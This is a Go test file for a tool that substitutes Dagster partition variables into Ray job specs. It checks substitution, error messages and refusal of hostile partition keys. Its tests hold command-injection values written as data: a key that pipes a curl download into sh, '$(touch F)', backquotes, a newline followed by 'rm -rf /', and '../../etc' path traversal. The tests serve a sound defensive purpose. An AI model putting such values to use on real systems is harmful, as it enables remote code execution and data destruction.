package schemas

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// varsSpec is a valid spec whose entrypoint and env var V are given.
func varsSpec(entrypoint, v string) string {
	return `apiVersion: raystep.dev/v1alpha1
kind: RayStep
metadata: {name: vars, owner: me}
spec:
  kind: train
  entrypoint: '` + entrypoint + `'
  cluster: {rayVersion: "2.60.0", image: "rayproject/ray:2.60.0"}
  runtimeEnv:
    env_vars: {V: '` + v + `', OTHER: plain}
`
}

// daily is a run for one daily partition of a time-partitioned asset.
var daily = &Partitions{Values: map[string]string{
	VarPartitionKey:             "2024-03-05",
	VarPartitionKeyRangeStart:   "2024-03-05",
	VarPartitionKeyRangeEnd:     "2024-03-05",
	VarPartitionTimeWindowStart: "2024-03-05T00:00:00Z",
	VarPartitionTimeWindowEnd:   "2024-03-06T00:00:00Z",
}}

func TestVarsSubstituted(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, entrypoint, v   string
		parts                 *Partitions
		wantEntrypoint, wantV string
	}{
		{"key in both", "python train.py --day ${RAYSTEP_PARTITION_KEY}", "day=${RAYSTEP_PARTITION_KEY}", daily,
			"python train.py --day 2024-03-05", "day=2024-03-05"},
		{"window and range", "echo ${RAYSTEP_PARTITION_TIME_WINDOW_START}/${RAYSTEP_PARTITION_TIME_WINDOW_END}",
			"${RAYSTEP_PARTITION_KEY_RANGE_START}..${RAYSTEP_PARTITION_KEY_RANGE_END}", daily,
			"echo 2024-03-05T00:00:00Z/2024-03-06T00:00:00Z", "2024-03-05..2024-03-05"},
		{"escape is a literal", "echo $${RAYSTEP_PARTITION_KEY} ${RAYSTEP_PARTITION_KEY}", "$${X}", daily,
			"echo ${RAYSTEP_PARTITION_KEY} 2024-03-05", "${X}"},
		{"shell variables untouched", "echo $HOME ${HOME} $RAYSTEP_PARTITION_KEY $$ ${HOME:-x}", "$PATH", daily,
			"echo $HOME ${HOME} $RAYSTEP_PARTITION_KEY $$ ${HOME:-x}", "$PATH"},
		{"unpartitioned run without variables", "echo ${HOME}", "x", &Partitions{},
			"echo ${HOME}", "x"},
		{"unknown run leaves them as written", "echo ${RAYSTEP_PARTITION_KEY}", "${RAYSTEP_PARTITION_KEY}", nil,
			"echo ${RAYSTEP_PARTITION_KEY}", "${RAYSTEP_PARTITION_KEY}"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			s, err := Parse("vars.yaml", []byte(varsSpec(tc.entrypoint, tc.v)), LoadOptions{Partitions: tc.parts})
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			if s.Spec.Entrypoint != tc.wantEntrypoint {
				t.Errorf("entrypoint = %q, want %q", s.Spec.Entrypoint, tc.wantEntrypoint)
			}
			env, _ := s.Spec.RuntimeEnv["env_vars"].(map[string]any)
			want := map[string]any{"V": tc.wantV, "OTHER": "plain"}
			if tc.parts != nil {
				for k, v := range tc.parts.Values {
					want[k] = v
				}
			}
			if diff := cmp.Diff(want, env); diff != "" {
				t.Errorf("env_vars (-want +got):\n%s", diff)
			}
		})
	}
}

func TestVarsRefused(t *testing.T) {
	t.Parallel()
	keyRange := &Partitions{Values: map[string]string{VarPartitionKeyRangeStart: "a", VarPartitionKeyRangeEnd: "c"}}
	tests := []struct {
		name, spec string
		parts      *Partitions
		want       []string // each a line of the error, in order
	}{
		{"unknown name, with a suggestion", varsSpec("echo ${RAYSTEP_PARTITON_KEY}", "x"), nil, []string{
			`vars.yaml: /spec/entrypoint: unknown variable ${RAYSTEP_PARTITON_KEY}: raystep defines RAYSTEP_PARTITION_KEY, ` +
				`RAYSTEP_PARTITION_KEY_RANGE_START, RAYSTEP_PARTITION_KEY_RANGE_END, RAYSTEP_PARTITION_TIME_WINDOW_START, ` +
				`RAYSTEP_PARTITION_TIME_WINDOW_END (did you mean ${RAYSTEP_PARTITION_KEY}?); write $${ for a literal ${`}},
		{"unknown name in an env var", varsSpec("echo", "${RAYSTEP_DAY}"), daily, []string{
			`vars.yaml: /spec/runtimeEnv/env_vars/V: unknown variable ${RAYSTEP_DAY}: raystep defines RAYSTEP_PARTITION_KEY, ` +
				`RAYSTEP_PARTITION_KEY_RANGE_START, RAYSTEP_PARTITION_KEY_RANGE_END, RAYSTEP_PARTITION_TIME_WINDOW_START, ` +
				`RAYSTEP_PARTITION_TIME_WINDOW_END; write $${ for a literal ${`}},
		{"unterminated", varsSpec("echo ${RAYSTEP_PARTITION_KEY", "x"), nil, []string{
			`vars.yaml: /spec/entrypoint: "${RAYSTEP_PARTITION_KEY" starts a raystep variable but has no closing }; write $${ for a literal ${`}},
		{"shell operators", varsSpec("echo ${RAYSTEP_DIR:-/tmp}", "x"), nil, []string{
			`vars.yaml: /spec/entrypoint: "${RAYSTEP_DIR:-/tmp}": raystep's variables are written ${NAME}, without shell operators; ` +
				`write $${ to leave it to the shell`}},
		{"partitioned variable in an unpartitioned run", varsSpec("echo ${RAYSTEP_PARTITION_KEY}", "${RAYSTEP_PARTITION_TIME_WINDOW_END}"),
			&Partitions{}, []string{
				`vars.yaml: /spec/entrypoint: ${RAYSTEP_PARTITION_KEY} is defined only when Dagster runs the step for a partition, ` +
					`and this run has no partition (run it from a partitioned asset, or remove the variable)`,
				`vars.yaml: /spec/runtimeEnv/env_vars/V: ${RAYSTEP_PARTITION_TIME_WINDOW_END} is defined only when Dagster runs ` +
					`the step for a partition, and this run has no partition (run it from a partitioned asset, or remove the variable)`}},
		{"key of a range of several partitions", varsSpec("echo ${RAYSTEP_PARTITION_KEY}", "x"), keyRange, []string{
			`vars.yaml: /spec/entrypoint: ${RAYSTEP_PARTITION_KEY} is not defined for this run's partitions (the run targets ` +
				`a range of several partitions); it defines RAYSTEP_PARTITION_KEY_RANGE_START, RAYSTEP_PARTITION_KEY_RANGE_END`}},
		{"window of partitions that are not time windows", varsSpec("echo ${RAYSTEP_PARTITION_TIME_WINDOW_START}", "x"),
			&Partitions{Values: map[string]string{VarPartitionKey: "us", VarPartitionKeyRangeStart: "us", VarPartitionKeyRangeEnd: "us"}},
			[]string{`vars.yaml: /spec/entrypoint: ${RAYSTEP_PARTITION_TIME_WINDOW_START} is not defined for this run's partitions ` +
				`(they are not time windows); it defines RAYSTEP_PARTITION_KEY, RAYSTEP_PARTITION_KEY_RANGE_START, RAYSTEP_PARTITION_KEY_RANGE_END`}},
		{"env var of raystep's own name", strings.Replace(varsSpec("echo", "x"), "OTHER: plain", "RAYSTEP_PARTITION_KEY: mine", 1), nil, []string{
			`vars.yaml: /spec/runtimeEnv/env_vars/RAYSTEP_PARTITION_KEY: RAYSTEP_PARTITION_KEY is set by raystep from the Dagster ` +
				`partition and cannot be set here; use ${RAYSTEP_PARTITION_KEY} in another variable's value instead`}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			_, err := Parse("vars.yaml", []byte(tc.spec), LoadOptions{Partitions: tc.parts})
			verrs := errorLines(t, err)
			if diff := cmp.Diff(tc.want, verrs.lines); diff != "" {
				t.Errorf("errors (-want +got):\n%s", diff)
			}
			if verrs.Errors[0].Line == 0 {
				t.Errorf("error %q has no line", verrs.Errors[0].Error())
			}
		})
	}
}

// key is a run for one partition whose key is k.
func key(k string) *Partitions {
	return &Partitions{Values: map[string]string{VarPartitionKey: k, VarPartitionKeyRangeStart: k, VarPartitionKeyRangeEnd: k}}
}

// TestVarsHostileValues: a partition key is input (sensors, file names,
// the Dagster UI). Into the entrypoint, which Ray gives to sh -c, only a
// key the shell reads as one plain word is substituted; env var values
// take any printable key that keeps a path where the spec put it.
func TestVarsHostileValues(t *testing.T) {
	t.Parallel()
	const ep = "python train.py --day ${RAYSTEP_PARTITION_KEY}"
	const envHint = `; use the environment variable instead, quoted: "$RAYSTEP_PARTITION_KEY"`
	refusedInEntrypoint := func(k, char string) string {
		return fmt.Sprintf(`vars.yaml: /spec/entrypoint: ${RAYSTEP_PARTITION_KEY} is %q, which the shell would not read as one `+
			`plain word (it holds %s); raystep substitutes into the entrypoint only letters, digits and `+
			`_ . - : + @ , = %% /`+envHint, k, char)
	}
	tests := []struct {
		name, spec, key string
		want            []string // errors; none: substituted as is
	}{
		{"command after a semicolon", varsSpec(ep, "x"), "2024-01-01; curl -s http://x/y | sh #",
			[]string{refusedInEntrypoint("2024-01-01; curl -s http://x/y | sh #", `';'`)}},
		{"command substitution", varsSpec(ep, "x"), "$(touch F)", []string{refusedInEntrypoint("$(touch F)", `'$'`)}},
		{"backquotes", varsSpec(ep, "x"), "a`touch F`", []string{refusedInEntrypoint("a`touch F`", "'`'")}},
		{"space", varsSpec(ep, "x"), "eu west", []string{refusedInEntrypoint("eu west", `' '`)}},
		{"quote", varsSpec(ep, "x"), "it's", []string{refusedInEntrypoint("it's", `'\''`)}},
		{"glob", varsSpec(ep, "x"), "*", []string{refusedInEntrypoint("*", `'*'`)}},
		{"pipe of a multi-partition key", varsSpec(ep, "x"), "2024-01-01|eu", []string{refusedInEntrypoint("2024-01-01|eu", `'|'`)}},
		{"empty", varsSpec(ep, "x"), "", []string{`vars.yaml: /spec/entrypoint: ${RAYSTEP_PARTITION_KEY} is "", ` +
			`which the shell would drop from the command` + envHint}},
		{"NUL in an env var", varsSpec("echo", "${RAYSTEP_PARTITION_KEY}"), "a\x00b", []string{
			`vars.yaml: /spec/runtimeEnv/env_vars/V: ${RAYSTEP_PARTITION_KEY} is "a\x00b", which holds the control character ` +
				`U+0000, which Ray and Kubernetes do not accept`}},
		{"newline in the entrypoint", varsSpec(ep, "x"), "a\nrm -rf /", []string{
			refusedInEntrypoint("a\nrm -rf /", `'\n'`)}},
		{"too long", varsSpec("echo", "${RAYSTEP_PARTITION_KEY}"), strings.Repeat("k", MaxPartitionValue+1), []string{
			`vars.yaml: /spec/runtimeEnv/env_vars/V: ${RAYSTEP_PARTITION_KEY} is "` + strings.Repeat("k", 80) +
				`"... (4097 bytes), longer than 4 KiB, raystep's limit for a partition value`}},
		{"newline in an env var", varsSpec("echo", "${RAYSTEP_PARTITION_KEY}"), "a\nb", nil},
		{"parent directory in a path", varsSpec("echo", "/data/models/${RAYSTEP_PARTITION_KEY}"), "../../etc", []string{
			`vars.yaml: /spec/runtimeEnv/env_vars/V: ${RAYSTEP_PARTITION_KEY} is "../../etc", which holds a ".." path ` +
				`segment: a partition value must not lead a path out of its directory`}},
		{"absolute path", varsSpec("echo", "${RAYSTEP_PARTITION_KEY}/model"), "/etc", []string{
			`vars.yaml: /spec/runtimeEnv/env_vars/V: ${RAYSTEP_PARTITION_KEY} is "/etc", which starts with "/": ` +
				`a partition value must not make a path absolute`}},
		// What the shell reads as a plain word goes in, whatever its script.
		{"day", varsSpec(ep, "x"), "2024-01-01", nil},
		{"time window, region, file name", varsSpec(ep, "x"), "eu-west_1:2024-01-01T00:00:00+05:30@v2,a=b%c/d.csv", nil},
		{"letters of any script", varsSpec(ep, "x"), "région-東京", nil},
		{"shell characters in an env var", varsSpec("echo", "/data/${RAYSTEP_PARTITION_KEY}"), "x; `touch F` $(y) 'z' eu/west", nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			js, err := Parse("vars.yaml", []byte(tc.spec), LoadOptions{Partitions: key(tc.key)})
			if tc.want == nil {
				if err != nil {
					t.Fatalf("Parse: %v", err)
				}
				if got, ok := js.Spec.RuntimeEnv["env_vars"].(map[string]any)["RAYSTEP_PARTITION_KEY"]; !ok || got != tc.key {
					t.Errorf("job env RAYSTEP_PARTITION_KEY = %v, want %q", got, tc.key)
				}
				return
			}
			verrs := errorLines(t, err)
			if diff := cmp.Diff(tc.want, verrs.lines); diff != "" {
				t.Errorf("errors (-want +got):\n%s", diff)
			}
		})
	}
}

// parsedErrors are a Parse error's validation errors, and their messages
// without line and column (the lines tests compare).
type parsedErrors struct {
	*ValidationErrors
	lines []string
}

// errorLines fails the test unless err holds validation errors.
func errorLines(t *testing.T, err error) parsedErrors {
	t.Helper()
	var verrs *ValidationErrors
	if !errors.As(err, &verrs) {
		t.Fatalf("Parse = %v, want *ValidationErrors", err)
	}
	out := parsedErrors{ValidationErrors: verrs}
	for _, e := range verrs.Errors {
		e.Line, e.Column = 0, 0
		out.lines = append(out.lines, e.Error())
	}
	return out
}
